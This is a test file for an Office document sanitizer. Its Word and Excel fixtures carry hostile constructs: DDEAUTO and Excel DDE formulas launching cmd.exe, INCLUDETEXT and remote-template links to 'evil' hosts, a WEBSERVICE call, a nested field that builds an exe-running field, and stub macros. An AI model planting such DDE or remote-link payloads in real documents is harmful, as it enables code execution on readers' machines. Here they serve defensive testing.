import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { TextWriter, Uint8ArrayReader, ZipReader } from '@zip.js/zip.js';
import CFB from 'cfb';
import { field, pack, paragraph, relationships, text, types, wordPackage } from '../../src/sanitize/fixtures/package';
import { removedFrom, sanitized } from '../../src/sanitize/fixtures/sanitized';
import { lacks } from '../needs';

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'assay-sanitize-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const unpack = async (content: Uint8Array): Promise<{ [name: string]: string }> => {
  const files: { [name: string]: string } = {};
  for (const entry of await new ZipReader(new Uint8ArrayReader(content)).getEntries()) {
    if (!entry.directory) files[entry.filename] = await entry.getData(new TextWriter());
  }
  return files;
};

/** What LibreOffice reads in a document; it is given a profile of its own. */
const opened = (content: Uint8Array, name: string, to: string): string => {
  const path = join(dir, name);
  writeFileSync(path, content);
  const profile = `-env:UserInstallation=file://${join(dir, 'profile')}`;
  Bun.spawnSync(['soffice', profile, '--headless', '--convert-to', to, '--outdir', dir, path]);
  const [ending = ''] = to.split(':');
  return readFileSync(path.replace(/\.\w+$/, `.${ending}`), 'utf8');
};

const evil = () =>
  wordPackage(
    [
      text('Dear reader'),
      field([' DDE', 'AUTO c:\\\\windows\\\\cmd.exe "/k calc"']),
      field([' PAGE '], '1'),
      '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;\\\\\\\\evil\\\\share&quot;"><w:r><w:t>old</w:t></w:r></w:fldSimple></w:p>',
      '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>page</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId6"><w:r><w:t>share</w:t></w:r></w:hyperlink></w:p>',
      paragraph('<w:object><o:OLEObject r:id="rId4" Type="Embed"/></w:object>'),
    ].join(''),
    relationships(
      ['rId3', 'vbaProject', 'vbaProject.bin'],
      ['rId4', 'oleObject', 'embeddings/oleObject1.bin'],
      ['rId5', 'hyperlink', 'https://example.org/', true],
      ['rId6', 'hyperlink', '\\\\evil\\share', true],
      ['rId7', 'attachedTemplate', 'http://evil.example/t.dotm', true],
    ),
    {
      'word/vbaProject.bin': 'evil',
      'word/_rels/vbaProject.bin.rels': relationships(['rId1', 'wordVbaData', 'vbaData.xml']),
      'word/vbaData.xml': '<evil/>',
      'word/embeddings/oleObject1.bin': 'evil',
      'customUI/customUI.xml': '<evil/>',
    },
    '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
  );

describe('a Word document', () => {
  test('loses macros, objects, links to elsewhere and exchange of data, with all that refers to them', async () => {
    const { content, removed, extension } = await sanitized(await evil());
    const files = await unpack(content);
    expect(Object.keys(files).sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'word/_rels/document.xml.rels',
      'word/document.xml',
    ]);
    expect(Object.values(files).join()).not.toMatch(/evil|DDE|cmd\.exe|INCLUDETEXT|macroEnabled|vbaData|rId[3467]/);
    expect(files['word/document.xml']).toContain('PAGE');
    expect(files['word/_rels/document.xml.rels']).toContain('https://example.org/');
    expect(extension).toBe('docx');
    expect(removed.map(({ what, where }) => `${what}: ${where}`).sort()).toEqual([
      'dynamic data exchange: DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
      'dynamic data exchange: INCLUDETEXT "\\\\\\\\evil\\\\share"',
      'embedded object: word/embeddings/oleObject1.bin',
      'external link: \\\\evil\\share',
      'external link: http://evil.example/t.dotm',
      'macro: customUI/customUI.xml',
      'macro: word/vbaData.xml',
      'macro: word/vbaProject.bin',
    ]);
  });

  test('loses a field whose name another field makes up', async () => {
    const quoted =
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> c:\\\\evil.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
    const { content } = await sanitized(await wordPackage(quoted, relationships()));
    expect((await unpack(content))['word/document.xml']).not.toMatch(/QUOTE|evil/);
  });

  test.skipIf(lacks('soffice'))('opens with LibreOffice, with its text', async () => {
    expect(opened((await sanitized(await evil())).content, 'evil.docx', 'txt:Text')).toContain('Dear reader');
  });

  test.each([
    ['with two parts of one name', { 'WORD/../word/document.xml': 'x' }],
    ['whose XML is not well-formed', { 'word/styles.xml': '<a>' }],
  ])('%s is refused or made right, never passed on as it is', async (_, more) => {
    const result = await sanitized(await wordPackage(text('x'), relationships(), more as never)).catch(
      (error: Error) => error,
    );
    if (!(result instanceof Error)) expect(Object.keys(await unpack(result.content))).toContain('word/document.xml');
    else expect(result.message).not.toBe('');
  });
});

const workbook = () =>
  pack({
    '[Content_Types].xml': types(
      'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
      'xl/workbook.xml',
      '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
    ),
    '_rels/.rels': relationships(['rId1', 'officeDocument', 'xl/workbook.xml']),
    'xl/workbook.xml':
      '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="One" sheetId="1" r:id="rId1"/><sheet name="Macro" sheetId="2" r:id="rId2"/></sheets><externalReferences><externalReference r:id="rId3"/></externalReferences><definedNames><definedName name="far">[1]Sheet!$A$1</definedName></definedNames></workbook>',
    'xl/_rels/workbook.xml.rels': relationships(
      ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
      ['rId2', 'xlMacrosheet', 'macrosheets/sheet2.xml'],
      ['rId3', 'externalLink', 'externalLinks/externalLink1.xml'],
    ),
    'xl/worksheets/sheet1.xml':
      '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>42</v></c><c r="B1"><f>A1*2</f><v>84</v></c><c r="C1"><f>[1]!\'!A0\'</f><v>7</v></c><c r="D1"><f>cmd|\'/C calc\'!A0</f><v>8</v></c><c r="E1"><f>WEBSERVICE("https://evil.example")</f><v>9</v></c></row></sheetData></worksheet>',
    'xl/macrosheets/sheet2.xml': '<evil/>',
    'xl/externalLinks/externalLink1.xml':
      '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="evil"/></externalLink>',
  });

describe('an Excel workbook', () => {
  test('loses macro sheets, links to elsewhere and formulas that reach out, and keeps values and the other formulas', async () => {
    const files = await unpack((await sanitized(await workbook())).content);
    expect(Object.values(files).join()).not.toMatch(/evil|cmd|WEBSERVICE|\[1\]|Macro|externalReference/);
    expect(files['xl/worksheets/sheet1.xml']).toContain('<f>A1*2</f><v>84</v>');
    for (const value of [7, 8, 9]) expect(files['xl/worksheets/sheet1.xml']).toContain(`<v>${value}</v>`);
  });

  test.skipIf(lacks('soffice'))('opens with LibreOffice, with its values', async () => {
    expect(opened((await sanitized(await workbook())).content, 'book.xlsx', 'csv')).toContain('42,84,7,8,9');
  });
});

describe('documents up to 2003', () => {
  const made = (from: string, content: string, to: string): Uint8Array => {
    writeFileSync(join(dir, from), content);
    const profile = `-env:UserInstallation=file://${join(dir, 'profile')}`;
    Bun.spawnSync(['soffice', profile, '--headless', '--convert-to', to, '--outdir', dir, join(dir, from)]);
    return readFileSync(join(dir, from.replace(/\.\w+$/, `.${to}`)));
  };
  const withStorages = (document: Uint8Array): Uint8Array => {
    const file = CFB.read(document, { type: 'array' });
    for (const name of ['/Macros/VBA/Module1', '/_VBA_PROJECT_CUR/VBA/dir', '/ObjectPool/_1/\u0001Ole10Native'])
      CFB.utils.cfb_add(file, name, Buffer.from('evil'));
    return new Uint8Array(CFB.write(file, { type: 'array' }) as unknown as ArrayLike<number>);
  };

  test.skipIf(lacks('soffice'))('Word: macros and objects go, the text stays and opens', async () => {
    const { content } = await sanitized(withStorages(made('old.txt', 'Old words', 'doc')));
    expect(Buffer.from(content).includes('evil')).toBe(false);
    expect(opened(content, 'old2.doc', 'txt:Text')).toContain('Old words');
    expect((await removedFrom(withStorages(made('old.txt', 'Old words', 'doc')))).sort()).toEqual([
      'embedded object: ObjectPool/_1/Ole10Native',
      'macro: Macros/VBA/Module1',
      'macro: _VBA_PROJECT_CUR/VBA/dir',
    ]);
  });

  test.skipIf(lacks('soffice'))('Excel: the values stay and open', async () => {
    const { content } = await sanitized(withStorages(made('table.csv', '1,2\n3,4\n', 'xls')));
    expect(Buffer.from(content).includes('evil')).toBe(false);
    expect(opened(content, 'table2.xls', 'csv')).toBe('1,2\n3,4\n');
  });
});
